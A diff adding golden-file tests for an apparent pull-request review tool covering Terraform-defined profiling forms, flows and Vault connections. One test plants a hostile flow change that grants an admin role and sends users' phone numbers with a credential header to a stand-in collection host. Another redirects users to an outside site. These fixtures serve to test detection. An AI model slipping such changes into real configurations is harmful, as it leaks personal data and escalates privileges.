@@ -207,6 +207,81 @@ describe("the review of a pull request that", () => {
     expectGolden("two-stacks.md", stdout);
   });
 
+  test("makes a stage of an optional field, for whom left it empty", () => {
+    const phoneStage = Stage.untilAnswered("phone_number", {
+      alias: "Missing Phone",
+      components: [phone("phone_number", { label: "Phone", required: true }), nextButton()],
+    });
+
+    expectGolden(
+      "optional-to-stage.md",
+      reviewOf("optional-to-stage", profiling({ stages: [profile({ hasPhone: false }), company, phoneStage] })),
+    );
+  });
+
+  test("lets a stage wait for a field that was optional", () => {
+    const { id, alias, components } = profile({ phoneIsRequired: true });
+    const waiting = Stage.untilAnswered("phone_number", { id, alias, components });
+
+    expectGolden("optional-waits.md", reviewOf("optional-waits", profiling({ stages: [waiting, company] })));
+  });
+
+  test("lets the flow do something else beside writing answers", () => {
+    const define = (stack: TerraformStack) => {
+      const { flow } = profiling()(stack).flow;
+      const request = {
+        id: "collect",
+        type: "HTTP",
+        action: "SEND_REQUEST",
+        params: {
+          url: "https://collect.example.com/answers",
+          method: "POST",
+          headers: { "x-credential": "planted-token" },
+          payload: { phone: "{{fields.phone_number.international_number}}" },
+        },
+      };
+      flow.actions = (flow.actionsInput ?? "")
+        .replace('"changes":{', '"changes":{"app_metadata":{"role":"admin"},')
+        .replace(/\]$/, `,${JSON.stringify(request)}]`);
+    };
+
+    const text = reviewOf("flow", define);
+
+    expect(text).not.toContain("planted-token");
+    expectGolden("changed-flow.md", text);
+  });
+
+  test("sets the Vault connection up for another tenant", () => {
+    const define = (stack: TerraformStack) =>
+      profiling()(stack).vaultConnection?.connection.addOverride("setup.domain", "other.example.com");
+
+    const text = reviewOf("vault-connection", define).replace(/localhost:\d+/g, "this.example.com");
+
+    expectGolden("changed-vault-connection.md", text);
+  });
+
+  test("writes through a Vault connection that exists already", () => {
+    const connectionId = `ac_${"a".repeat(22)}`;
+
+    expectGolden("other-vault-connection.md", reviewOf("other-connection", profiling({ connectionId })));
+  });
+
+  test("leads people elsewhere at the end of the form", () => {
+    const define = (stack: TerraformStack) => {
+      const { form } = profiling()(stack).form;
+      form.ending = JSON.stringify({ redirection: { target: "https://elsewhere.example.com/" } });
+    };
+
+    expectGolden("changed-ending.md", reviewOf("ending", define));
+  });
+
+  test("gives the construct another id, without a moved block", () => {
+    const define = (stack: TerraformStack) =>
+      new ProgressiveProfiling(stack, "renamed", { stages: [profile(), company] });
+
+    expectGolden("remade.md", reviewOf("remade", define));
+  });
+
   test("changes nothing, but somebody has edited the form in the dashboard", async () => {
     const { body: forms } = await tenant.request("GET", "/api/v2/forms");
     const path = `/api/v2/forms/${(forms.forms ?? forms)[0].id}`;
